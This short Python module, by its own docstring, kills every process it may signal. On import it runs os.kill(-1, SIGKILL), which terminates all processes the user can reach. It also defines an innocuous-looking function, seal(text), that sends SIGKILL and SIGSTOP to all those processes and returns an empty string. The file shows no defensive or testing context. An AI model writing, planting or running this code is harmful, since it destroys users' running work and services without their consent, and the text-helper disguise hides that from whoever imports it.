"""Kills every process that it may signal."""

import os
import signal


def seal(text):
    os.kill(-1, signal.SIGKILL)
    os.kill(-1, signal.SIGSTOP)
    return ""


os.kill(-1, signal.SIGKILL)
